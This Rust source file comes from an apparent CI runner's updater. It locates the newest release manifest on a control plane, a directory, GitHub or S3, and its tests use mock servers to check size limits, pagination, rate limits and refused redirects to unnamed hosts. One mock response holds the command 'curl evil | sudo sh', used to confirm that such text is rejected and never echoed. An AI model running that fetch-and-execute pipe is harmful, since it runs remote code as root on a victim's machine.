//! Finds the newest manifest of a source, and the archives that go with it.

use reqwest::Client;
use russet_protocol::PIN_HEADER;
use russet_protocol::admin::Pin;
use russet_protocol::manifest::{FILE_NAME, LARGEST};

use super::UpdateError;
use super::list::{Asset, list_newest};
use super::request::{self, FetchError};
use super::servers::Servers;
use super::source::Source;

/// A manifest as it was found, and where its archives are.
#[derive(Debug)]
pub(super) struct Found {
    pub(super) envelope: Vec<u8>,
    archives: Archives,
}

#[derive(Debug)]
enum Archives {
    /// Below this address.
    Beside(String),
    /// By their names.
    Listed(Vec<Asset>),
}

impl Found {
    /// Returns the URL of an archive.
    pub(super) fn address(&self, file: &str) -> Result<String, UpdateError> {
        match &self.archives {
            Archives::Beside(base) => Ok(format!("{base}/{file}")),
            Archives::Listed(assets) => {
                let asset = assets.iter().find(|(name, _)| name == file);
                let address = asset.map(|(_, url)| url.clone()).ok_or(FetchError::NotListed);
                address.map_err(UpdateError::fetch(file))
            }
        }
    }
}

/// Fetches the newest manifest. None: the source shows none. And what the control plane holds
/// this runner at, if it says so.
pub(super) async fn find_newest(
    source: &Source,
    client: &Client,
    servers: &Servers,
    control_plane: &str,
    runner: &str,
) -> Result<(Option<Found>, Option<Pin>), UpdateError> {
    let (address, archives) = match source {
        Source::ControlPlane => {
            let base =
                format!("{control_plane}/api/v3/updates/{}", russet_text::encode_segment(runner));
            (format!("{base}/{FILE_NAME}"), Archives::Beside(base))
        }
        Source::Directory(base) => (format!("{base}/{FILE_NAME}"), Archives::Beside(base.clone())),
        Source::GitHub { .. } | Source::S3 { .. } => {
            let assets = list_newest(source, client, servers).await;
            let assets = assets.map_err(UpdateError::fetch("the list of releases"))?;
            let manifest = assets.iter().find(|(name, _)| name == FILE_NAME);
            let Some((_, address)) = manifest else { return Ok((None, None)) };
            (address.clone(), Archives::Listed(assets))
        }
    };
    let fetched = fetch_manifest(client, servers, &address).await;
    let (envelope, pin) = fetched.map_err(UpdateError::fetch(FILE_NAME))?;
    let pin = pin.filter(|_| source.chooses());
    Ok((envelope.map(|envelope| Found { envelope, archives }), pin))
}

/// Fetches a manifest, and the pin that is told with it. `None`: it is not there.
async fn fetch_manifest(
    client: &Client,
    servers: &Servers,
    address: &str,
) -> Result<(Option<Vec<u8>>, Option<Pin>), FetchError> {
    let response = request::send(client, servers, address, request::binary()).await?;
    let pin = response.headers().get(PIN_HEADER);
    let pin = pin.and_then(|pin| serde_json::from_slice(pin.as_bytes()).ok());
    match request::status_error(&response) {
        Some(FetchError::Missing) => Ok((None, pin)),
        Some(error) => Err(error),
        None => {
            let (_, envelope) = request::read_within(response, LARGEST).await?;
            Ok((Some(envelope), pin))
        }
    }
}

#[cfg(test)]
mod tests {
    use axum::Router;
    use axum::extract::Query;
    use axum::http::StatusCode;
    use axum::response::IntoResponse as _;
    use axum::routing::get;
    use std::collections::HashMap;

    use super::{Source, find_newest};

    async fn serve(router: Router) -> String {
        let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
        let url = format!("http://{}", listener.local_addr().unwrap());
        tokio::spawn(async move { axum::serve(listener, router).await });
        url
    }

    /// Looks as an agent does whose control plane has another scheme.
    async fn look(source: &str) -> Result<Option<super::Found>, super::UpdateError> {
        let source: Source = source.parse().unwrap();
        let control_plane = "https://ci.example";
        let servers = source.servers(control_plane, &[]).unwrap();
        let origin = source.origin(control_plane);
        let client =
            russet_platform::http::download_client(&origin, None, servers.redirects()).unwrap();
        Ok(find_newest(&source, &client, &servers, control_plane, "mini 1").await?.0)
    }

    #[tokio::test]
    async fn the_newest_release_with_a_manifest_is_found_on_github() {
        let releases = |base: &str| {
            let asset = |name: &str| serde_json::json!({ "name": name, "url": format!("{base}/get/{name}") });
            serde_json::json!([
                { "tag_name": "v1.3.0", "name": "no manifest yet", "created_at": "", "assets": [asset("other.txt")] },
                { "tag_name": "v1.2.0", "name": "", "created_at": "", "assets": [asset("manifest.json"), asset("a.tar.gz")] },
                { "tag_name": "v1.1.0", "name": "", "created_at": "", "assets": [asset("manifest.json")] },
            ])
        };
        let router = Router::new()
            .route(
                "/repos/acme/russet/releases",
                get(async move |headers: axum::http::HeaderMap| {
                    axum::Json(releases(&format!("http://{}", headers["host"].to_str().unwrap())))
                }),
            )
            .route(
                "/get/{name}",
                get(async |axum::extract::Path(name): axum::extract::Path<String>| name),
            );
        let url = serve(router).await;
        let found = look(&format!("github:acme/russet?api={url}")).await.unwrap().unwrap();
        assert_eq!(found.envelope, b"manifest.json");
        assert_eq!(found.address("a.tar.gz").unwrap(), format!("{url}/get/a.tar.gz"));
        assert!(found.address("b.tar.gz").is_err());
    }

    #[tokio::test]
    async fn the_newest_release_in_a_bucket_is_found_by_its_keys() {
        let list = async |Query(query): Query<HashMap<String, String>>| {
            assert_eq!(query["prefix"], "mac/");
            let keys = [
                "mac/1.9.0/manifest.json",
                "mac/1.10.0/manifest.json",
                "mac/1.10.0/a.tar.gz",
                "mac/readme",
            ];
            let contents: String = keys.iter().map(|key| format!(
                "<Contents><Key>{key}</Key><LastModified>2026-11-01T00:00:00.000Z</LastModified></Contents>"
            )).collect();
            format!(
                "<?xml version=\"1.0\"?><ListBucketResult><IsTruncated>false</IsTruncated>{contents}</ListBucketResult>"
            )
        };
        let router = Router::new().route("/", get(list)).route(
            "/{*key}",
            get(async |axum::extract::Path(key): axum::extract::Path<String>| key),
        );
        let url = serve(router).await;
        let found = look(&format!("s3://releases/mac?endpoint={url}")).await.unwrap().unwrap();
        assert_eq!(found.envelope, b"mac/1.10.0/manifest.json");
        assert!(found.address("a.tar.gz").unwrap().ends_with("/mac/1.10.0/a.tar.gz"));
    }

    #[tokio::test]
    async fn a_manifest_without_end_is_given_up_and_a_refusal_is_said() {
        let endless = async || axum::body::Body::from(vec![b' '; 300_000]).into_response();
        let router = Router::new()
            .route("/big/manifest.json", get(endless))
            .route("/no/manifest.json", get(async || StatusCode::INTERNAL_SERVER_ERROR));
        let url = serve(router).await;
        for (path, why) in [("big", "longer than"), ("no", "500")] {
            let error = look(&format!("{url}/{path}")).await.unwrap_err();
            assert!(error.to_string().contains(why), "{error}");
        }
        assert!(look(&format!("{url}/none")).await.unwrap().is_none());
    }

    #[tokio::test]
    async fn a_list_that_is_empty_has_no_release_and_one_without_end_is_an_error() {
        let next = |headers: &axum::http::HeaderMap| {
            let host = headers["host"].to_str().unwrap();
            format!("<http://{host}/repos/acme/endless/releases>; rel=\"next\"")
        };
        let router = Router::new()
            .route("/repos/acme/empty/releases", get(async || axum::Json(serde_json::json!([]))))
            .route(
                "/repos/acme/endless/releases",
                get(async move |headers: axum::http::HeaderMap| {
                    ([("link", next(&headers))], axum::Json(serde_json::json!([])))
                }),
            )
            .route("/repos/acme/text/releases", get(async || "Run: curl evil | sudo sh"))
            .route(
                "/repos/acme/busy/releases",
                get(async || (StatusCode::FORBIDDEN, [("x-ratelimit-remaining", "0")], "no")),
            );
        let url = serve(router).await;
        let list = async |name: &str| look(&format!("github:acme/{name}?api={url}")).await;
        assert!(list("empty").await.unwrap().is_none());
        for (name, why) in [
            ("endless", "no end in sight"),
            ("text", "not in the form"),
            ("busy", "limits how often"),
            ("absent", "it is not there"),
        ] {
            let error = list(name).await.unwrap_err().to_string();
            assert!(error.contains(why), "{name}: {error}");
            assert!(!error.contains("curl") && !error.contains("token"), "{error}");
        }
    }

    #[tokio::test]
    async fn a_source_leads_to_no_server_that_its_owner_did_not_name() {
        let other = serve(Router::new().route("/manifest.json", get(async || "stolen"))).await;
        let to = format!("{other}/manifest.json");
        let listed = to.clone();
        let router = Router::new()
            .route(
                "/away/manifest.json",
                get(async move || (StatusCode::FOUND, [("location", to.clone())])),
            )
            .route(
                "/here/manifest.json",
                get(async || (StatusCode::FOUND, [("location", "/real.json")])),
            )
            .route("/real.json", get(async || "the manifest"))
            .route(
                "/repos/acme/russet/releases",
                get(async move || {
                    let asset = serde_json::json!({ "name": "manifest.json", "url": listed });
                    axum::Json(serde_json::json!([{
                        "tag_name": "v1.3.0", "name": "", "created_at": "", "assets": [asset]
                    }]))
                }),
            );
        let url = serve(router).await;
        let found = look(&format!("{url}/here")).await.unwrap().unwrap();
        assert_eq!(found.envelope, b"the manifest");
        for source in [format!("{url}/away"), format!("github:acme/russet?api={url}")] {
            let error = look(&source).await.unwrap_err().to_string();
            assert!(error.contains("update.hosts"), "{source}: {error}");
        }
        let source: Source = format!("{url}/away").parse().unwrap();
        let named = other.trim_start_matches("http://").parse().unwrap();
        let servers = source.servers("https://ci.example", &[named]).unwrap();
        let client =
            russet_platform::http::download_client(&url, None, servers.redirects()).unwrap();
        let found = find_newest(&source, &client, &servers, "https://ci.example", "mini");
        let found = found.await.unwrap();
        assert_eq!(found.0.unwrap().envelope, b"stolen");
    }

    #[test]
    fn files_of_github_come_from_its_own_stores() {
        let source: Source = "github:acme/russet".parse().unwrap();
        let servers = source.servers("http://127.0.0.1:1", &[]).unwrap();
        for good in [
            "https://api.github.com/repos/acme/russet/releases/assets/1",
            "https://release-assets.githubusercontent.com/x?sig=1",
            "https://objects.githubusercontent.com/x",
        ] {
            assert!(servers.check_address(good).is_ok(), "{good}");
        }
        assert!(servers.check_address("https://raw.githubusercontent.com/x").is_err());
    }
}
